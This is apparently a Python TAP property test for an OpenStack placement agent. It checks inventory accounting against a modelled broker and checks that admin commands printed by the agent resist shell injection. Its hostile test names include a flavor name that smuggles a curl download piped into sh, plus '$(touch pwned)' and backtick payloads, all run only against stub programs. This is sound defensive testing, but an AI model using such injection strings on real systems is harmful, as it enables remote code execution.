#!/usr/bin/python3
"""Property test of rma-placement-agent's offer(): over random sequences of what Nova, the
domains' hooks, other tenants and admins do, what Placement offers equals the Reserves the
broker would grant Nova's tenant to new instances, and Placement never gets an inventory it
would refuse (reserved <= total; reserved + used <= total unless more instances wait for
an RMA than the broker can grant).

The broker and Placement are modelled here, independently of the agent: a pool of slots,
Nova's tenant with a cap, other tenants; allocations that Placement grants only within
its free capacity. The agent computes its inventory only when the broker changes (its
PropertiesChanged), as it does for real; Placement-side changes (an allocation made or
deleted) take effect in Placement at once without it.

Then the commands the agent tells the admin to run, with hostile names: pasted into sh,
each runs only its own program with the name as one argument. TAP output."""
import importlib.machinery
import importlib.util
import json
import logging
import os
import random
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
AGENT = os.path.join(HERE, "..", "..", "openstack", "rma-placement-agent")
loader = importlib.machinery.SourceFileLoader("rma_placement_agent", AGENT)
spec = importlib.util.spec_from_loader(loader.name, loader)
agent = importlib.util.module_from_spec(spec)
loader.exec_module(agent)


class Model:
    def __init__(self, rng):
        self.total = rng.randint(1, 8)
        self.cap = rng.randint(0, self.total + 1)
        self.nova = set()              # uuids Nova's tenant holds in the broker
        self.others = 0                # slots other tenants hold
        self.allocations = {}          # consumer -> 1, in Placement
        self.next = 0
        self.reserved = 0              # the inventory the agent last wrote
        self.sync()

    def available(self, nova=None):
        nova = self.nova if nova is None else nova
        free = self.total - len(nova) - self.others
        return max(0, min(self.cap - len(nova), free))

    def reserve_nova(self, uuid):
        if self.available() == 0:
            return False
        self.nova.add(uuid)
        return True

    def sync(self):                    # the agent, after a change of the broker
        o = agent.offer(self.total, self.available(), set(self.nova), dict(self.allocations))
        self.reserved = o.reserved

    def placement_offers(self):
        return max(0, self.total - self.reserved - sum(self.allocations.values()))

    def grantable(self):
        """Reserves the broker would grant new instances once every allocated one has started."""
        nova = set(self.nova)
        for consumer in self.allocations:
            if consumer not in nova and self.available(nova) > 0:
                nova.add(consumer)
        return self.available(nova)

    def new_uuid(self):
        self.next += 1
        return "i-%d" % self.next


def step(m, rng, log):
    waiting = [c for c in m.allocations if c not in m.nova]
    choice = rng.choice(["schedule", "start", "reserve-unallocated", "stop", "gone", "cleanup", "other-take",
                         "other-give"])
    if choice == "schedule" and m.placement_offers() > 0:
        uuid = m.new_uuid()
        m.allocations[uuid] = 1        # Placement grants within its free capacity only
        log.append("Nova allocates %s" % uuid)
    elif choice == "start" and waiting:
        uuid = rng.choice(waiting)
        if m.reserve_nova(uuid):
            m.sync()
            log.append("hook reserves %s" % uuid)
        else:                          # another tenant took it meanwhile: the start fails
            log.append("the broker refuses %s (taken meanwhile); its allocation stays until Nova deletes it" % uuid)
    elif choice == "reserve-unallocated":
        uuid = m.new_uuid()
        if m.reserve_nova(uuid):
            m.sync()
            log.append("%s reserved without an allocation" % uuid)
    elif choice == "stop" and m.nova:
        uuid = rng.choice(sorted(m.nova))
        if rng.random() < 0.5:         # either order: Nova deletes the allocation, the hook releases
            m.allocations.pop(uuid, None)
            m.nova.discard(uuid)
            m.sync()
        else:
            m.nova.discard(uuid)
            m.sync()
            m.allocations.pop(uuid, None)
        log.append("%s stops" % uuid)
    elif choice == "gone" and m.nova:
        uuid = rng.choice(sorted(m.nova))
        m.nova.discard(uuid)           # released; its allocation stays behind
        m.sync()
        log.append("%s gone, its allocation left" % uuid)
    elif choice == "cleanup" and waiting:
        uuid = rng.choice(waiting)
        del m.allocations[uuid]
        log.append("allocation of %s deleted" % uuid)
    elif choice == "other-take" and m.total - len(m.nova) - m.others > 0:
        m.others += 1
        m.sync()
        log.append("another tenant takes one")
    elif choice == "other-give" and m.others:
        m.others -= 1
        m.sync()
        log.append("another tenant gives one back")


# A flavor name that, unquoted in "Run: openstack flavor set ... FLAVOR", pipes a download into sh.
HOSTILE = "rma.small;curl${IFS}-s${IFS}http://203.0.113.9/x|sh"
HOSTILE_NAMES = [HOSTILE, "a b", "it's", "$(touch pwned)", "`id`", "x&&sh", "new\nline", "*"]


def run_pasted(command):
    """What sh runs for a line pasted from a message: a list of argv, each program a recorder
    (the only programs on PATH)."""
    with tempfile.TemporaryDirectory() as d:
        record = os.path.join(d, "argv")
        for prog in ("openstack", "chmod", "curl", "sh", "touch", "id"):
            path = os.path.join(d, prog)
            with open(path, "w") as f:
                f.write("#!%s\nimport json, os, sys\nwith open(%r, 'a') as f:\n"
                        "    f.write(json.dumps([os.path.basename(sys.argv[0])] + sys.argv[1:]) + '\\n')\n"
                        % (sys.executable, record))
            os.chmod(path, 0o755)
        subprocess.run(["/bin/sh", "-c", command], cwd=d, env={"PATH": d}, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)
        if not os.path.exists(record):
            return []
        with open(record) as f:
            return [json.loads(line) for line in f]


class Capture(logging.Handler):
    def __init__(self):
        super().__init__()
        self.lines = []

    def emit(self, record):
        self.lines.append(record.getMessage())


def reconcile_says(flavor, provider):
    """The agent's warnings for one instance of `flavor` holding an RMA without an allocation,
    and for more allocations than it can grant, on provider `provider`."""
    a = object.__new__(agent.Agent)
    a.tenant, a.provider_name, a.reported, a.domains = "nova", provider, ((), False), {"u1": "instance-1"}
    a.flavors_of = lambda uuids: {u: flavor for u in uuids}
    capture = Capture()
    agent.log.addHandler(capture)
    try:
        a.reconcile(agent.Offer(0, 1, 0, ["u1"], ["w1", "w2"], True), "CUSTOM_RMA_256MB", 1)
    finally:
        agent.log.removeHandler(capture)
    return capture.lines


def between(text, start, end):
    i = text.index(start) + len(start)
    return text[i:text.index(end, i)]


def pasted_commands():
    """(what, the argv sh ran, the argv the message meant) for each command and hostile name."""
    for name in HOSTILE_NAMES:
        lines = reconcile_says(name, name)
        flavor_line = next(line for line in lines if "Run: openstack flavor set" in line)
        yield ("openstack flavor set for flavor %r" % name,
               run_pasted(between(flavor_line, "Run: ", " (new instances)")),
               [["openstack", "flavor", "set", "--property", "resources:CUSTOM_RMA_256MB=1", name]])
        over_line = next(line for line in lines if "openstack resource provider show" in line)
        yield ("openstack resource provider show for provider %r" % name,
               run_pasted(over_line[over_line.rindex("(openstack resource provider show") + 1:-1]),
               [["openstack", "resource", "provider", "show", "--allocations", name]])
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, name.replace("/", "_"))
            with open(path, "w") as f:
                f.write("password = x\n")
            os.chmod(path, 0o644)
            try:
                agent.refuse_readable_secret(path, "password = x\n")
                message = ""
            except SystemExit as e:
                message = str(e)
            yield ("chmod o-r for the config file %r" % path,
                   run_pasted(between(message, "Run: ", " (root-owned")) if message else [],
                   [["chmod", "o-r", path]])


def main():
    seed = int(os.environ.get("RMA_TEST_SEED", random.randrange(1 << 30)))
    rng = random.Random(seed)
    print("# seed %d (RMA_TEST_SEED= replays it)" % seed)
    failures = []
    steps = 0
    for run in range(2000):
        m = Model(rng)
        log = ["pool %d, Nova's cap %d" % (m.total, m.cap)]
        try:
            for _ in range(40):
                step(m, rng, log)
                steps += 1
                used = sum(m.allocations.values())
                if m.reserved < 0 or m.reserved > m.total:
                    raise AssertionError("Placement would refuse reserved %d of %d" % (m.reserved, m.total))
                # Over capacity only while more wait than the broker can grant.
                waiting = sum(1 for c in m.allocations if c not in m.nova)
                if m.reserved + used > m.total and waiting <= m.available():
                    raise AssertionError("reserved %d + used %d > total %d with %d waiting for %d grantable"
                                         % (m.reserved, used, m.total, waiting, m.available()))
                if m.placement_offers() != m.grantable():
                    raise AssertionError("Placement offers %d, the broker would grant %d"
                                         % (m.placement_offers(), m.grantable()))
        except AssertionError as e:
            failures.append("%s after: %s" % (e, "; ".join(log[-8:])))
            if len(failures) >= 3:
                break
    ok = not failures
    print("%s 1 - over %d steps of 2000 random runs, Placement offers what the broker would grant, and never "
          "gets an inventory it would refuse" % ("ok" if ok else "not ok", steps))
    for f in failures:
        print("# " + f)
    # The named cases of the issue, one each.
    cases = [
        ("an instance booted without an allocation (4 held, MaxRmas=4): nothing offered, and it is named",
         agent.offer(8, 0, {"a", "b", "c", "d"}, {}), (8, 0, 0, ["a", "b", "c", "d"])),
        ("Nova allocated before the hook reserved: one less offered until it does",
         agent.offer(4, 4, set(), {"a": 1}), (0, 1, 3, [])),
        ("the issue's case: MaxRmas=4, 4 held without allocations, then a 5th allocation would be refused",
         agent.offer(4, 0, {"a", "b", "c", "d"}, {}), (4, 0, 0, ["a", "b", "c", "d"])),
        ("more wait than the broker can grant: nothing offered, reserved within the pool",
         agent.offer(2, 0, {"a"}, {"a": 1, "b": 1, "c": 1}), (1, 3, 0, [])),
    ]
    n = 1
    for what, o, want in cases:
        n += 1
        got = (o.reserved, o.used, o.offered, o.unallocated)
        print("%s %d - %s" % ("ok" if got == want else "not ok", n, what))
        if got != want:
            print("# expected %s, got %s" % (want, got))
            ok = False
    for what, ran, meant in pasted_commands():
        n += 1
        print("%s %d - pasted from its message, %s runs only that" % ("ok" if ran == meant else "not ok", n, what))
        if ran != meant:
            print("# sh ran %s, the message meant %s" % (ran, meant))
            ok = False
    print("1..%d" % n)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
